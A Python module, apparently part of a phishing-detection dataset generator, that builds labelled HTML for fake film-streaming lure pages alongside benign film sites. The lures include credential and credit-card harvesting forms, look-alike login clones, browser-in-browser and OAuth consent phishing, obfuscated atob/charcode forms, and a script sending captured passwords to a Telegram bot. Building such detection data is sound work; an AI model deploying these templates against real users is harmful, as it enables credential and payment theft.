"""HTML of the pages outside the platforms: lure players, harmless sites, redirectors.

Each ``lure_*`` / ``benign_*`` function returns ``(url, html)`` for a film; they are pure (ids come from
hashes of their arguments), so the same film always gets the same page. :mod:`replica._content_landings`
files them into :class:`~replica.dataset.Landing` objects with their ground truth.
"""

from __future__ import annotations

import base64
import hashlib
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import quote

from replica._content_text import html_escape, slugify

__all__ = ["BENIGN_PAGES", "LURE_PAGES", "Film", "LurePage", "code_for", "page"]


@dataclass(frozen=True)
class Film:
    """A film posts talk about; ``watched`` = on the watchlist (then ``title`` is the watchlist string)."""

    title: str
    year: int | None
    aliases: tuple[str, ...] = ()
    watched: bool = True

    @property
    def slug(self) -> str:
        return slugify(self.title, 50)

    @property
    def shown(self) -> str:
        return html_escape(self.title)

    @property
    def year_text(self) -> str:
        return str(self.year or "")


def code_for(*parts: object, length: int = 7) -> str:
    """A short, deterministic, URL-safe code (shortener ids, video ids, signatures)."""
    digest = hashlib.sha1("|".join(map(str, parts)).encode(), usedforsecurity=False).digest()
    return base64.urlsafe_b64encode(digest).decode().rstrip("=").replace("-", "x").replace("_", "Z")[:length]


def number_for(*parts: object, digits: int = 7) -> int:
    digest = hashlib.sha1("|".join(map(str, parts)).encode(), usedforsecurity=False).hexdigest()
    value: int = int(digest, 16) % (9 * 10 ** (digits - 1)) + 10 ** (digits - 1)
    return value


def page(title: str, body: str, head: str = "", lang: str = "en") -> str:
    return (
        f'<!DOCTYPE html>\n<html lang="{lang}"><head><meta charset="utf-8"><title>{title}</title>'
        f'<meta name="viewport" content="width=device-width, initial-scale=1">{head}</head>\n'
        f"<body>\n{body}\n</body></html>\n"
    )


def _player_shell(film: Film, brand: str, inner: str) -> str:
    """The fake video player every lure wraps its sign-in trap in."""
    return page(
        f"{film.shown} ({film.year_text}) Full Movie HD - {brand}",
        f'<header class="site"><a href="/">{brand}</a></header>\n<main><div class="player-wrap">'
        f'<video poster="/posters/{film.slug}.jpg" '
        'preload="none"></video><div class="play-overlay">&#9654;</div>'
        f'<div class="modal"><h1>{film.shown} ({film.year_text})</h1>{inner}</div></div>'
        f"<p>HD 1080p &middot; 4K &middot; Subtitles</p></main>",
        head='<link rel="stylesheet" href="/assets/player.css">',
    )


LurePage = Callable[[Film], tuple[str, str]]


def lure_facebook_button(film: Film) -> tuple[str, str]:
    host = "hd-player.stream-now.xyz"
    url = f"https://{host}/watch/{film.slug}"
    nxt = quote(url, safe="")
    return url, _player_shell(
        film,
        "StreamNow HD",
        (
            "<p>This video is available for registered members only. Sign in to continue watching in HD.</p>"
            f'<a class="btn btn-facebook" href="https://faceb00k-login.example/login.php?next={nxt}">'
            '<img src="/img/fb.svg" alt="f"> Continue with Facebook</a>'
        ),
    )


def lure_google_button(film: Film) -> tuple[str, str]:
    host = "moviebox-hd.example"
    url = f"https://{host}/movie/{film.slug}-{film.year_text}.html"
    return url, _player_shell(
        film,
        "MovieBox",
        (
            "<p>Verify you are not a robot to unlock the free HD stream.</p>"
            '<a class="g-signin-button" href="https://accounts.google.com.signin-verify.xyz/ServiceLogin?service=mail'
            f'&amp;continue={quote(url, safe="")}"><img '
            'src="/img/google-g.svg" alt="G"> Sign in with Google</a>'
        ),
    )


def lure_apple_button(film: Film) -> tuple[str, str]:
    url = f"https://flixstream.test/film/{film.slug}"
    return url, _player_shell(
        film,
        "FlixStream",
        (
            "<p>Your free preview has ended. Sign in to keep watching.</p>"
            '<a class="apple-signin" href="https://appleid.apple.com-auth.example/auth/authorize?client_id=com.flixstream.web'
            '&amp;response_type=code">&#63743; Sign in with Apple</a>'
        ),
    )


def lure_microsoft_button(film: Film) -> tuple[str, str]:
    url = f"https://cinema4k.xyz/play/{film.slug}/"
    return url, _player_shell(
        film,
        "Cinema4K",
        (
            "<p>Sign in with your Microsoft account to stream in 4K.</p>"
            '<a class="ms-btn" href="https://login.microsoftonline.com.oauth-secure.test/common/login?wa=wsignin1.0">'
            "Sign in with Microsoft</a>"
        ),
    )


def _password_form(action: str, button: str) -> str:
    return (
        f'<form class="login" action="{action}" method="post">'
        '<label>Email or phone <input type="email" name="email" autocomplete="username"></label>'
        '<label>Password <input type="password" name="pass" autocomplete="current-password"></label>'
        f'<button type="submit">{button}</button></form>'
    )


def lure_password_gate(film: Film) -> tuple[str, str]:
    url = f"https://watchfullhd.example/{film.slug}-full-movie"
    return url, _player_shell(
        film,
        "WatchFullHD",
        (
            "<p>Create your FREE account to unlock the full movie. It only takes 10 seconds!</p>"
            + _password_form("/gate.php", "Continue watching")
        ),
    )


def lure_telegram(film: Film) -> tuple[str, str]:
    url = f"https://streamflix-free.xyz/stream/{film.slug}"
    bot = "https://api.telegram.org/bot7351942268:AAHq3kR-replica-fake-token/sendMessage"
    return url, _player_shell(
        film,
        "StreamFlix Free",
        (
            "<p>Log in with your Facebook or Google account to start the stream.</p>"
            + _password_form(bot, "Log in to watch")
            + '<input type="hidden" name="chat_id" value="-1002233445566">'
            + f"<script>document.querySelector('form.login').onsubmit=function(e){{e.preventDefault();"
            f"fetch('{bot}?chat_id=-1002233445566&text='+encodeURIComponent(new "
            "FormData(this).get('email')+':'"
            "+new FormData(this).get('pass')));location='/player';}};</script>"
        ),
    )


def lure_card_form(film: Film) -> tuple[str, str]:
    url = f"https://premium-movies.example/free-trial/{film.slug}"
    return url, _player_shell(
        film,
        "Premium Movies",
        (
            "<p><b>Free account!</b> We only need to verify your age. You will NOT be charged ($0.00).</p>"
            '<form action="https://billing-secure.payverify.test/charge.php" method="post">'
            '<input name="email" type="email" placeholder="Email"><input '
            'name="password" type="password" placeholder="Choose a password">'
            '<input name="cc_number" inputmode="numeric" placeholder="Card number" autocomplete="cc-number">'
            '<input name="cc_exp" placeholder="MM/YY" autocomplete="cc-exp"><input '
            'name="cvv" placeholder="CVV" autocomplete="cc-csc">'
            "<button>Activate free account</button></form>"
        ),
    )


def lure_browser_in_browser(film: Film) -> tuple[str, str]:
    url = f"https://hdmovies-online.test/watch/{film.slug}.html"
    return url, _player_shell(
        film,
        "HDMovies Online",
        (
            '<div class="bitb-window" role="dialog"><div '
            'class="bitb-titlebar"><span class="lock">&#128274;</span>'
            '<span class="bitb-url">https://accounts.google.com/signin/v2/identifier?flowName=GlifWebSignIn</span>'
            '<span class="bitb-close">&times;</span></div><div '
            'class="bitb-body"><img src="/img/google-logo.svg" alt="Google">'
            "<h2>Sign in</h2><p>to continue to HDMovies</p>"
            + _password_form("/api/v1/session", "Next")
            + "</div></div>"
        ),
    )


_GOOGLE_OAUTH = (
    "https://accounts.google.com/o/oauth2/v2/auth?client_id={client}.apps.googleusercontent.com"
    "&amp;redirect_uri={redirect}&amp;response_type=code&amp;scope={scope}&amp;access_type=offline"
    "&amp;prompt=consent"
)


def lure_oauth_google(film: Film) -> tuple[str, str]:
    url = f"https://moviecloud.example/m/{film.slug}"
    auth = _GOOGLE_OAUTH.format(
        client="48213377120-" + code_for("gclient", 20).lower(),
        redirect=quote("https://moviecloud.example/oauth/callback", safe=""),
        scope=quote(
            "https://mail.google.com/ https://www.googleapis.com/auth/drive https://www.googleapis.com/auth/contacts",
            safe="",
        ),
    )
    return url, _player_shell(
        film,
        "MovieCloud",
        (
            "<p>Link your Google account to unlock unlimited HD streaming.</p>"
            f'<a class="google-btn" href="{auth}">Continue with Google</a>'
        ),
    )


def lure_oauth_microsoft(film: Film) -> tuple[str, str]:
    url = f"https://stream-hd.xyz/title/{film.slug}"
    scope = quote("offline_access Mail.ReadWrite Files.ReadWrite.All Contacts.Read User.Read", safe="")
    auth = (
        "https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=3f2a9c51-8e0d-4b7a-9c1e-5d6f7a8b9c0d"
        f"&amp;response_type=code&amp;redirect_uri={quote('https://stream-hd.xyz/auth/ms', safe='')}"
        f"&amp;scope={scope}&amp;response_mode=query"
    )
    return url, _player_shell(
        film,
        "StreamHD",
        (
            "<p>Sign in with your Outlook / Microsoft account to watch free.</p>"
            f'<a class="ms-btn" href="{auth}">Sign in with Microsoft</a>'
        ),
    )


def lure_atob_form(film: Film) -> tuple[str, str]:
    """Static HTML shows only "Loading"; the form appears when the script runs (needs rendering)."""
    url = f"https://filmhd-player.test/p/{film.slug}"
    hidden = "<h2>Members only</h2><p>Sign in with Facebook to continue watching</p>" + _password_form(
        "https://filmhd-player.test/gate.php", "Log In"
    )
    encoded = base64.b64encode(hidden.encode()).decode()
    return url, page(
        f"{film.shown} - HD Player",
        (
            f'<div id="app"><h1>{film.shown} ({film.year_text})</h1><p '
            'class="loading">Loading player&hellip;</p></div>'
            f'<script>document.write(atob("{encoded}"));</script>'
        ),
    )


def lure_charcode_button(film: Film) -> tuple[str, str]:
    url = f"https://watch-hd-movies.xyz/v/{film.slug}"
    hidden = (
        '<a class="btn-facebook" href="https://faceb00k-login.example/login.php?skip_api_login=1">'
        "Continue with Facebook</a>" + _password_form("https://watch-hd-movies.xyz/collect.php", "Log in")
    )
    codes = ",".join(str(ord(c)) for c in hidden)
    return url, page(
        f"{film.shown} ({film.year_text}) Streaming",
        (
            f'<div id="player"><h1>{film.shown}</h1><div id="gate"></div></div>'
            f"<script>document.getElementById('gate').innerHTML=String.fromCharCode({codes});</script>"
        ),
    )


def lure_lookalike_login(film: Film) -> tuple[str, str]:
    """A cloned Facebook login page on a look-alike domain (posts link straight to it)."""
    url = f"https://faceb00k-login.example/login.php?next=watch-{film.slug}"
    return url, page(
        "Log in to Facebook",
        (
            '<div class="fb-clone"><img src="/rsrc/fb_logo.svg" '
            'alt="facebook"><p>Log in to continue to the video</p>'
            + _password_form("/login/device-based/regular/login/", "Log In")
            + '<a href="/recover/initiate/">Forgotten password?</a></div>'
        ),
    )


def lure_brand_clone(film: Film) -> tuple[str, str]:
    url = f"https://netflix-account-verify.example/{film.slug}/signin"
    return url, page(
        "Netflix",
        (
            "<h1>Sign In</h1><p>Your membership is on hold. Update "
            f"your payment details to watch {film.shown}.</p>"
            + '<form action="https://netflix-account-verify.example/billing/update.php" method="post">'
            '<input name="email" type="email"><input name="password" type="password">'
            '<input name="card" placeholder="Card number"><input '
            'name="cvv" placeholder="CVV"><button>Sign In</button></form>'
        ),
    )


#: variant name -> (page builder, needs_js, is a fake player)
LURE_PAGES: dict[str, tuple[LurePage, bool, bool]] = {
    "facebook_button": (lure_facebook_button, False, True),
    "google_button": (lure_google_button, False, True),
    "apple_button": (lure_apple_button, False, True),
    "microsoft_button": (lure_microsoft_button, False, True),
    "password_gate": (lure_password_gate, False, True),
    "telegram_exfil": (lure_telegram, False, True),
    "card_form": (lure_card_form, False, True),
    "browser_in_browser": (lure_browser_in_browser, False, True),
    "oauth_google": (lure_oauth_google, False, True),
    "oauth_microsoft": (lure_oauth_microsoft, False, True),
    "atob_form": (lure_atob_form, True, True),
    "charcode_button": (lure_charcode_button, True, True),
    "lookalike_login": (lure_lookalike_login, False, False),
    "brand_clone": (lure_brand_clone, False, False),
}


# --- harmless pages ---------------------------------------------------------------------------------


def benign_imdb(film: Film) -> tuple[str, str]:
    url = f"https://www.imdb.com/title/tt{number_for('imdb', film.title)}/"
    return url, page(
        f"{film.shown} ({film.year_text}) - IMDb",
        (
            "<h1 "
            f'data-testid="hero-title-block__title">{film.shown}</h1><ul><li>{film.year_text}</li><li>PG-13</li></ul>'
            '<div class="rating">7.4/10</div><a href="https://www.imdb.com/registration/signin">Sign in</a>'
            f"<section><h3>Storyline</h3><p>The story of {film.shown}.</p></section>"
        ),
    )


def benign_youtube_watch(film: Film) -> tuple[str, str]:
    url = f"https://www.youtube.com/watch?v={code_for('yt', film.title, length=11)}"
    signin = (
        "https://accounts.google.com/ServiceLogin?service=youtube&amp;uilel=3&amp;passive=true"
        "&amp;continue=https%3A%2F%2Fwww.youtube.com%2Fsignin%3Faction_handle_signin%3Dtrue"
    )
    return url, page(
        f"{film.shown} | Official Trailer - YouTube",
        (
            f'<ytd-app><a class="sign-in" href="{signin}">Sign in</a><h1>{film.shown} | Official Trailer</h1>'
            '<div id="player"></div><p>12,345,678 views</p></ytd-app>'
        ),
    )


def benign_youtube_embed(film: Film) -> tuple[str, str]:
    url = f"https://www.youtube.com/embed/{code_for('yt', film.title, length=11)}"
    return url, page(f"{film.shown} - YouTube", '<div id="player" class="html5-video-player"></div>')


def benign_cinema(film: Film) -> tuple[str, str]:
    url = f"https://www.odeon.co.uk/films/{film.slug}/{number_for('odeon', film.title, digits=5)}/"
    return url, page(
        f"{film.shown} | ODEON",
        (
            f"<h1>{film.shown}</h1><p>Book tickets now. Showing from Friday.</p>"
            '<ul class="showtimes"><li>12:30</li><li>15:45</li><li>19:10</li></ul>'
            '<a href="/account/sign-in/">Sign in to myODEON</a>'
        ),
    )


def benign_netflix_signin(film: Film) -> tuple[str, str]:
    """A legitimate streaming service's own sign-in form, on its own domain."""
    url = "https://www.netflix.com/login"
    return url, page(
        "Netflix",
        (
            '<h1>Sign In</h1><form action="/login" method="post" class="login-form">'
            '<input name="userLoginId" type="email"><input name="password" type="password">'
            '<button>Sign In</button></form><p>New to Netflix? <a href="/signup">Sign up now</a>.</p>'
        ),
    )


def benign_disneyplus(film: Film) -> tuple[str, str]:
    url = f"https://www.disneyplus.com/movies/{film.slug}/{code_for('dplus', film.title, length=12)}"
    return url, page(
        f"Watch {film.shown} | Disney+",
        (
            f"<h1>{film.shown}</h1><p>Stream now on Disney+.</p><a "
            'href="https://www.disneyplus.com/login">Log In</a>'
        ),
    )


def benign_letterboxd(film: Film) -> tuple[str, str]:
    """A real site's own "Sign in with Google": real authorize URL, narrow scopes, redirect to itself."""
    url = f"https://letterboxd.com/film/{film.slug}/"
    auth = _GOOGLE_OAUTH.format(
        client="731230497-letterboxd",
        redirect=quote("https://letterboxd.com/user/google/callback", safe=""),
        scope=quote("openid email profile", safe=""),
    )
    return url, page(
        f"{film.shown} ({film.year_text}) - Letterboxd",
        (
            f'<h1 class="headline-1">{film.shown}</h1><p>Reviews, ratings and lists.</p>'
            f'<a class="google-signin" href="{auth}">Sign in with Google</a>'
        ),
    )


def benign_boxoffice(film: Film) -> tuple[str, str]:
    url = f"https://www.boxofficemojo.com/release/rl{number_for('bom', film.title, digits=10)}/"
    return url, page(
        f"{film.shown} - Box Office Mojo",
        (
            f"<h1>{film.shown} ({film.year_text})</h1><table><tr><td>Domestic "
            "Opening</td><td>$98,412,337</td></tr></table>"
        ),
    )


def benign_news(film: Film) -> tuple[str, str]:
    number = number_for("var", film.title, digits=7)
    url = f"https://variety.com/2026/film/news/{film.slug}-streaming-date-{number}/"
    return url, page(
        f"{film.shown} Sets Streaming Date - Variety",
        (
            f"<article><h1>{film.shown} Sets Streaming Premiere "
            "Date</h1><p>The film will be available to subscribers"
            " next month.</p></article>"
        ),
    )


def benign_wikipedia(film: Film) -> tuple[str, str]:
    url = f"https://en.wikipedia.org/wiki/{quote(film.title.replace(' ', '_'), safe='_:()')}"
    return url, page(
        f"{film.shown} - Wikipedia", f"<h1>{film.shown}</h1><p>{film.shown} is a {film.year_text} film.</p>"
    )


def benign_ad_player(film: Film) -> tuple[str, str]:
    """A fake-stream page with ads and a "download" button, but no sign-in or payment form: not a lure."""
    url = f"https://play.hdfilmizle.xyz/embed/{film.slug}"
    return url, page(
        f"{film.shown} izle - HD Player",
        (
            f'<div class="player"><video src="/media/{film.slug}.mp4" controls></video></div>'
            '<div class="ads"><a href="https://adclick.popcash.example/c?id=42">Ad</a></div>'
            f'<a class="download" href="https://dl.hdfilms-download.xyz/{film.slug}.exe">Download HD</a>'
            "<script>window.addEventListener('click',function(){window.open('https://adclick.popcash.example/pop')},{once:true});</script>"
        ),
    )


def benign_deviantart(film: Film) -> tuple[str, str]:
    number = number_for("da", film.title, digits=9)
    url = f"https://www.deviantart.com/filmfanart/art/{film.slug}-fan-poster-{number}"
    return url, page(
        f"{film.shown} fan poster by filmfanart on DeviantArt",
        f'<img src="https://images-wixmp.example/{film.slug}.jpg" alt="fan poster"><a href="/join">Join</a>',
    )


BENIGN_PAGES: dict[str, LurePage] = {
    "imdb": benign_imdb,
    "youtube_watch": benign_youtube_watch,
    "youtube_embed": benign_youtube_embed,
    "cinema": benign_cinema,
    "netflix_signin": benign_netflix_signin,
    "disneyplus": benign_disneyplus,
    "letterboxd_google": benign_letterboxd,
    "boxoffice": benign_boxoffice,
    "news": benign_news,
    "wikipedia": benign_wikipedia,
    "ad_player": benign_ad_player,
    "fan_art": benign_deviantart,
}

SCAM_WARNING_URLS: tuple[tuple[str, str], ...] = (
    (
        "https://consumer.ftc.gov/articles/watch-out-fake-movie-streaming-sites",
        page(
            "Watch Out for Fake Movie Streaming Sites | Consumer Advice",
            "<h1>Watch out for fake movie streaming sites</h1><p>Scammers "
            "promise free full movies, then ask you to "
            "&ldquo;sign in with Facebook to continue watching&rdquo; "
            "or to enter a credit card for a free account.</p>",
        ),
    ),
    (
        "https://www.actionfraud.police.uk/alert/free-film-streaming-phishing",
        page(
            "Free film streaming phishing | Action Fraud",
            "<h1>Alert: free film streaming phishing</h1><p>Do not "
            "enter your password on streaming sites you reached "
            "from a blog post.</p>",
        ),
    ),
)
